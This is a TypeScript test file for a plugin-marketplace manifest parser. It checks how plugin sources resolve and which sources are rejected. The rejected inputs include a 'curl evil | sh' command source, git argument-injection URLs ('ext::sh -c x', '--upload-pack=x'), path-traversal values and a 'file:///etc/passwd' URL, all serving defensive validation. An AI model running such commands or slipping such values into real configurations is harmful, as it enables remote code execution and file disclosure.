import * as fc from "fast-check";
import { expect, test } from "vitest";
import {
  type PluginLocation,
  isMarketplace,
  parseJsonFile,
  parseManifest,
  parseMarketplace,
} from "../../../../src/sources/reader/marketplaces/marketplace.ts";

const commit = "e3971a7000000000000000000000000000000000";

function placeOf(source: unknown, more: { metadata?: unknown; url?: string } = {}): PluginLocation | undefined {
  const { metadata, ...options } = more;
  return parseMarketplace({ plugins: [{ name: "p", source }], metadata }, options).plugins[0]?.location;
}

test.each([
  ["./plugins/p", { type: "directory", paths: ["plugins/p"] }],
  ["./", { type: "directory", paths: [""] }],
  [undefined, { type: "directory", paths: [""] }],
  [
    { source: "local", path: "./plugins/linear" },
    { type: "directory", paths: ["plugins/linear"] },
  ],
  [
    { source: "github", repo: "o/r", path: ".github/plugins/azure" },
    { type: "git", repository: "https://github.com/o/r.git", path: ".github/plugins/azure" },
  ],
  [
    { source: "git-subdir", url: "https://github.com/adobe/skills.git", path: "plugins/x", ref: "main", sha: commit },
    { type: "git", repository: "https://github.com/adobe/skills.git", path: "plugins/x", ref: "main", commit },
  ],
  [
    { source: "git-subdir", url: "o/r", path: "x" },
    { type: "git", repository: "https://github.com/o/r.git", path: "x" },
  ],
  [
    { source: "url", url: "https://example.com/x.git", ref: "v1" },
    { type: "git", repository: "https://example.com/x.git", path: "", ref: "v1" },
  ],
  [
    { source: "archive", url: "https://example.com/x.tar.gz", sha256: "AB".repeat(32) },
    { type: "archive", url: "https://example.com/x.tar.gz", digest: `sha256:${"ab".repeat(32)}` },
  ],
])("the source %j is %j", (source, place) => {
  expect(placeOf(source)).toEqual(place);
});

test.each([
  ["../x", "leaves the marketplace"],
  ["/etc", "leaves the marketplace"],
  ["", "leaves the marketplace"],
  [7, "neither a path nor an object"],
  [{ source: "command", command: "curl evil | sh" }, "a command to run on this machine, which is never done"],
  [{ source: "npm", package: "x" }, "a package of npm"],
  [{ source: "pip", package: "x" }, "a package of pip"],
  [{ source: "teleport" }, 'the unknown kind "teleport"'],
  [{}, "the unknown kind null"],
  [{ source: "github", repo: "https://evil" }, "names no repository"],
  [{ source: "url", url: "git@example.com:o/r.git" }, "not an https URL"],
  [{ source: "url", url: "ssh://git@example.com/o/r.git" }, "not an https URL"],
  [{ source: "url", url: "file:///etc" }, "not an https URL"],
  [{ source: "url", url: "ext::sh -c x" }, "not an https URL"],
  [{ source: "url", url: "--upload-pack=x" }, "not an https URL"],
  [{ source: "url", url: "https://u:secret@example.com/r" }, "user information"],
  [{ source: "url", url: "https://example.com/r", path: "../x" }, "leaves the repository"],
  [{ source: "url", url: "https://example.com/r", path: 7 }, "leaves the repository"],
  [{ source: "url", url: "https://example.com/r", sha: "main" }, "not a full commit id"],
  [{ source: "archive", url: "file:///etc/passwd" }, "not at an https URL"],
  [{ source: "archive", url: "https://example.com/x.zip", sha256: "x" }, "not 64 hexadecimal digits"],
])("the source %j is not usable, and the reason is %j", (source, why) => {
  expect(placeOf(source)).toMatchObject({ type: "unusable", why: expect.stringContaining(why) as string });
});

test("bare names count from pluginRoot; paths with ./ only where nothing is there otherwise", () => {
  const metadata = { pluginRoot: "./plugins" };
  expect(placeOf("p", { metadata })).toEqual({ type: "directory", paths: ["plugins/p", "p"] });
  expect(placeOf("./p", { metadata })).toEqual({ type: "directory", paths: ["p", "plugins/p"] });
  expect(placeOf("p", { metadata: { pluginRoot: "../x" } })).toMatchObject({ type: "unusable" });
});

test("a path in a marketplace without a repository says what to add instead", () => {
  expect(placeOf("./plugins/p", { url: "https://example.com/marketplace.json" })).toEqual({
    type: "unusable",
    why: "its source is a path in the marketplace's repository; add that repository instead",
  });
});

test("an entry without a name does not stop the others", () => {
  const { plugins, problems } = parseMarketplace({ plugins: [null, {}, { name: "" }, { name: "ok" }, "x"] });
  expect(plugins.map(({ name }) => name)).toEqual(["ok"]);
  expect(problems).toHaveLength(4);
});

test("what is not a skill is named, to be reported", () => {
  const [plugin] = parseMarketplace({
    plugins: [
      { name: "p", source: "./", hooks: "./h.json", mcpServers: {}, commands: [], skills: "./s", strict: false },
    ],
  }).plugins;
  expect(plugin).toMatchObject({ skills: ["./s"], ignored: ["commands", "hooks", "mcpServers"], isStrict: false });
});

test("Agent Plugins have their skills in one place; other manifests may name more", () => {
  const $schema = "https://agent-plugins.org/schemas/1.0.0/plugin.schema.json";
  expect(parseManifest({ $schema, name: "p", skills: "./x" }, "plugin.json")).toMatchObject({ skills: [] });
  expect(parseManifest({ name: "p", skills: ["./x"] }, ".claude-plugin/plugin.json")).toMatchObject({
    skills: ["./x"],
  });
  expect(parseManifest({ version: 1 }, "plugin.json")).toBeUndefined();
  expect(parseManifest([], "plugin.json")).toBeUndefined();
});

test("any JSON is read without an exception, and every usable place has a checked path", () => {
  const word = fc.constantFrom("./", "../x", "a", "https://e.com/r", "file:///x", "main", "ext::x", "/", commit);
  const source = fc.oneof(
    word,
    fc.jsonValue(),
    fc.record(
      {
        source: fc.constantFrom("github", "url", "git-subdir", "archive", "local", "npm", "command"),
        ...{ url: word, path: word, repo: word, ref: word, sha: word, sha256: word },
      },
      { requiredKeys: ["source"] },
    ),
  );
  const entry = fc.oneof(fc.jsonValue(), fc.record({ name: fc.string(), source, skills: fc.jsonValue() }));
  fc.assert(
    fc.property(fc.array(entry, { maxLength: 5 }), fc.jsonValue(), (entries, metadata) => {
      const json: unknown = { plugins: entries, metadata };
      if (!isMarketplace(json)) throw new Error("no marketplace");
      for (const { location } of parseMarketplace(json).plugins) {
        if (location.type === "git") expect(location.repository).toMatch(/^https?:\/\//);
        const paths = location.type === "directory" ? location.paths : location.type === "git" ? [location.path] : [];
        for (const path of paths) expect(path).not.toMatch(/(?:^|\/)\.\.(?:\/|$)|^\/|\\/);
      }
    }),
  );
});

test("JSON of others is not parsed if it has too many keys and values", () => {
  const listOf = (length: number): Buffer => Buffer.from(JSON.stringify(Array(length).fill(7)));
  expect(parseJsonFile(listOf(100_000))).toHaveLength(100_000);
  expect(parseJsonFile(listOf(200_000))).toBeUndefined();
});
